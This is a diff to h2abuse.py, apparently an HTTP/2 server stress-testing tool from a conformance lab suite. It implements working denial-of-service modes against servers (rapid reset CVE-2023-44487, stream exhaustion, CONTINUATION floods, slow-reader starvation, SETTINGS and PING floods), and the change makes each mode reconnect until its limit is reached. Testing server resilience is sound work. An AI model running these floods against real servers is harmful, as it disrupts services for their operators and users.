@@ -4,25 +4,27 @@
   h2abuse.py MODE --host H --port P --sni NAME --ca FILE [--path /]
              [--count N] [--seconds S] [--path2 PATH]
 
-Modes (each one connection unless said otherwise):
+Modes (a new connection each time the server ends one, until COUNT is
+done or SECONDS have passed):
   rapid-reset   COUNT pairs of HEADERS + RST_STREAM(CANCEL) (CVE-2023-44487)
   streams       COUNT streams opened (a POST whose body never comes), as many
                 at a time as the server's SETTINGS_MAX_CONCURRENT_STREAMS
                 allows (at most 100), then reset, batch after batch
   continuation  HEADERS without END_HEADERS, then CONTINUATION frames full
-                of fields, for SECONDS or until the server stops it
+                of fields, for SECONDS, on at most COUNT connections
   slow-reader   a GET of PATH with SETTINGS_INITIAL_WINDOW_SIZE 0 that is
                 never read, held SECONDS, while a second connection GETs
-                PATH2 every 0.2 s
+                PATH2 every 0.2 s (one connection each)
   settings      COUNT SETTINGS frames, written without reading the ACKs
   ping          COUNT PING frames, written without reading the ACKs
 
-Prints one JSON line saying what the server did: frames and bytes sent,
-"seconds" it took, "goaway" (the first GOAWAY's code, or null), "closed"
-(the server closed the connection), "send_blocked" (the server stopped
-reading), "answers" (responses received) and the mode's own figures.  A lab
-test measures the server around it (RSS, CPU) and serves other clients
-meanwhile; the exit status is 0 unless the tool itself could not run.
+Prints one JSON line saying what the server did: "connections" used,
+frames and bytes sent, "seconds" it took, "goaways" (GOAWAY code ->
+connections that got it), "closed" (connections the server closed),
+"send_blocked" (connections it stopped reading for 5 s), "answers"
+(responses received) and the mode's own figures.  A lab test measures the
+server around it (RSS, CPU) and serves other clients meanwhile; the exit
+status is 0 unless the tool itself could not run.
 """
 
 import argparse
@@ -37,113 +39,147 @@ from h2conform import (CANCEL, CONTINUATION, F_END_STREAM, HEADERS, RST_STREAM,
 
 
 class Abuse:
-    """One abusive connection and what the server did to it."""
+    """An abusive client: one connection at a time, a new one whenever the
+    server ends the last (until COUNT or SECONDS run out), and what the
+    server did to each."""
 
     def __init__(self, opts, settings=None):
-        self.c = Conn(opts)
-        self.c.case_id = "h2abuse-" + opts.mode
-        self.c.handshake(settings)
-        self.sent = 0
-        self.sent_bytes = 0
-        self.blocked = False
-        self.closed = False
+        self.opts = opts
+        self.settings = settings
+        self.t0 = time.monotonic()
+        self.c = None
+        self.conns = self.sent = self.sent_bytes = self.answers = self.bytes_in = 0
+        self.closed = self.blocked = 0         # connections the server closed / stopped reading
+        self.goaways = {}                      # GOAWAY code -> connections that got it
+        self.connect()
+
+    def connect(self):
+        self.c = Conn(self.opts)
+        self.c.case_id = "h2abuse-" + self.opts.mode
+        self.c.handshake(self.settings)
+        self.conns += 1
+        self.down = False
+
+    def again(self):
+        """After the server ended the connection: a new one, unless time is
+        up (then False)."""
+        if time.monotonic() - self.t0 >= self.opts.seconds:
+            return False
+        self.account()
+        self.connect()
+        return True
+
+    def account(self):
+        """Adds the current connection's outcome to the totals."""
+        self.drain(1.0)
+        self.answers += len(self.c.responses)
+        self.bytes_in += self.c.bytes_in
+        for e in self.c.events:
+            if e.startswith("GOAWAY"):
+                code = e.split()[1]
+                self.goaways[code] = self.goaways.get(code, 0) + 1
+                break
+        self.c.close()
 
     def send(self, frames):
-        """Writes FRAMES (bytes) unless the server stopped reading us or
-        closed; returns False then."""
-        if self.blocked or self.closed:
+        """Writes FRAMES; False when the server stopped reading us (5 s) or
+        closed the connection."""
+        if self.down:
             return False
         data = b"".join(f if isinstance(f, bytes) else f.serialize() for f in frames)
         self.c.sock.settimeout(5)
         try:
             self.c.sock.sendall(data)
         except (socket.timeout, TimeoutError):
-            self.blocked = True
+            self.blocked += 1
+            self.down = True
             return False
         except OSError:
-            self.closed = True
+            self.closed += 1
+            self.down = True
             return False
         self.sent += len(frames)
         self.sent_bytes += len(data)
         return True
 
     def drain(self, seconds=0.001):
-        """Reads what the server sent within SECONDS; False once closed."""
+        """Reads what the server sent within SECONDS; False once it closed."""
         deadline = time.monotonic() + seconds
         try:
-            while not self.closed and self.c.frame(deadline) is not None:
+            while self.c.frame(deadline) is not None:
                 pass
-        except Closed:
-            self.closed = True
-        except OSError:
-            self.closed = True
-        return not self.closed
+        except (Closed, OSError):
+            if not self.down:
+                self.closed += 1
+            self.down = True
+        return not self.down
 
-    def goaway(self):
-        for e in self.c.events:
-            if e.startswith("GOAWAY"):
-                return e.split()[1]
-        return None
+    def report(self, **extra):
+        self.account()
+        return dict(mode=self.opts.mode, connections=self.conns, sent=self.sent,
+                    sent_bytes=self.sent_bytes, seconds=round(time.monotonic() - self.t0, 3),
+                    goaways=self.goaways, closed=self.closed, send_blocked=self.blocked,
+                    answers=self.answers, bytes_in=self.bytes_in, **extra)
 
-    def report(self, mode, t0, **extra):
-        self.drain(1.0)
-        return dict(mode=mode, sent=self.sent, sent_bytes=self.sent_bytes,
-                    seconds=round(time.monotonic() - t0, 3), goaway=self.goaway(),
-                    closed=self.closed, send_blocked=self.blocked,
-                    answers=len(self.c.responses), bytes_in=self.c.bytes_in, **extra)
+    def keep_going(self, ok):
+        """True to go on: OK (the last write and read went through), or a
+        new connection once the server ended this one."""
+        return ok or self.again()
 
 
 def rapid_reset(opts):
     a = Abuse(opts)
-    t0 = time.monotonic()
-    c = a.c
-    for lo in range(0, opts.count, 100):
+    pairs = 0
+    while pairs < opts.count:
+        c = a.c
         frames = []
-        for _ in range(min(100, opts.count - lo)):
+        for _ in range(min(100, opts.count - pairs)):
             sid = c.sid()
-            frames += [c.headers(sid, c.request()),
-                       RstStreamFrame(sid, error_code=CANCEL)]
-        if not a.send(frames) or not a.drain():
+            frames += [c.headers(sid, c.request()), RstStreamFrame(sid, error_code=CANCEL)]
+        sent = a.send(frames)
+        pairs += len(frames) // 2 if sent else 0
+        ok = sent and a.drain()
+        if not a.keep_going(ok):
             break
-    return a.report("rapid-reset", t0, streams=(c.next_id - 1) // 2)
+    return a.report(pairs=pairs)
 
 
 def streams(opts):
     a = Abuse(opts)
-    t0 = time.monotonic()
-    c = a.c
-    batch = min(100, c.server_settings.get(S_MAX_CONCURRENT_STREAMS, 100))
     opened = 0
     while opened < opts.count:
-        sids = [c.sid() for _ in range(min(batch, opts.count - opened))]
-        if not a.send([c.headers(s, c.request(method="POST"), end_stream=False)
-                       for s in sids]) or not a.drain(0.05):
+        c = a.c
+        batch = min(100, c.server_settings.get(S_MAX_CONCURRENT_STREAMS, 100),
+                    opts.count - opened)
+        sids = [c.sid() for _ in range(batch)]
+        ok = a.send([c.headers(s, c.request(method="POST"), end_stream=False)
+                     for s in sids])
+        opened += batch if ok else 0
+        ok = ok and a.drain(0.05)
+        ok = ok and a.send([RstStreamFrame(s, error_code=CANCEL) for s in sids]) and a.drain()
+        if not a.keep_going(ok):
             break
-        opened += len(sids)
-        if not a.send([RstStreamFrame(s, error_code=CANCEL) for s in sids]) or not a.drain():
-            break
-    return a.report("streams", t0, opened=opened)
+    return a.report(opened=opened)
 
 
 def continuation(opts):
     a = Abuse(opts)
-    t0 = time.monotonic()
-    c = a.c
-    sid = c.sid()
-    block = c.enc.encode(c.request())
     # Fields of 1000 bytes, literal without indexing: the block grows
     # without bound and never ends.
     field = b"\x00" + hpack_int(3, 7) + b"x-c" + hpack_int(1000, 7) + b"c" * 1000
-    a.send([raw_frame(HEADERS, F_END_STREAM, sid, block)])
-    while time.monotonic() - t0 < opts.seconds:
-        if not a.send([raw_frame(CONTINUATION, 0, sid, field * 16)] * 16) or not a.drain():
+    while True:
+        c = a.c
+        sid = c.sid()
+        ok = a.send([raw_frame(HEADERS, F_END_STREAM, sid, c.enc.encode(c.request()))])
+        while ok and time.monotonic() - a.t0 < opts.seconds:
+            ok = a.send([raw_frame(CONTINUATION, 0, sid, field * 16)] * 16) and a.drain()
+        if ok or a.conns >= opts.count or not a.again():
             break
-    return a.report("continuation", t0)
+    return a.report()
 
 
 def slow_reader(opts):
     a = Abuse(opts, settings={S_INITIAL_WINDOW_SIZE: 0})
-    t0 = time.monotonic()
     c = a.c
     c.auto_window = False
     sid = c.sid()
@@ -154,7 +190,7 @@ def slow_reader(opts):
     other.handshake()
     ok = failed = 0
     worst = 0.0
-    while time.monotonic() - t0 < opts.seconds:
+    while time.monotonic() - a.t0 < opts.seconds:
         s = other.sid()
         t = time.monotonic()
         other.send(other.headers(s, other.request(path=opts.path2)))
@@ -165,7 +201,7 @@ def slow_reader(opts):
         worst = max(worst, time.monotonic() - t)
         time.sleep(0.2)
     other.close()
-    return a.report("slow-reader", t0, slow_status=status, other_ok=ok, other_failed=failed,
+    return a.report(slow_status=status, other_ok=ok, other_failed=failed,
                     other_worst_ms=round(worst * 1000))
 
 
@@ -185,13 +221,16 @@ def wait_answer(c, sid, timeout=10):
         return False
 
 
-def flood(opts, mode, make):
+def flood(opts, make):
     a = Abuse(opts)
-    t0 = time.monotonic()
-    for lo in range(0, opts.count, 1000):
-        if not a.send([make(i) for i in range(lo, min(opts.count, lo + 1000))]):
+    frames = 0
+    while frames < opts.count:
+        n = min(1000, opts.count - frames)
+        ok = a.send([make(i) for i in range(frames, frames + n)])
+        frames += n if ok else 0
+        if not a.keep_going(ok):
             break
-    return a.report(mode, t0)
+    return a.report(frames=frames)
 
 
 MODES = {
@@ -199,8 +238,8 @@ MODES = {
     "streams": streams,
     "continuation": continuation,
     "slow-reader": slow_reader,
-    "settings": lambda o: flood(o, "settings", lambda i: SettingsFrame(0, settings={})),
-    "ping": lambda o: flood(o, "ping", lambda i: PingFrame(0, opaque_data=i.to_bytes(8, "big"))),
+    "settings": lambda o: flood(o, lambda i: SettingsFrame(0, settings={})),
+    "ping": lambda o: flood(o, lambda i: PingFrame(0, opaque_data=i.to_bytes(8, "big"))),
 }
 
 
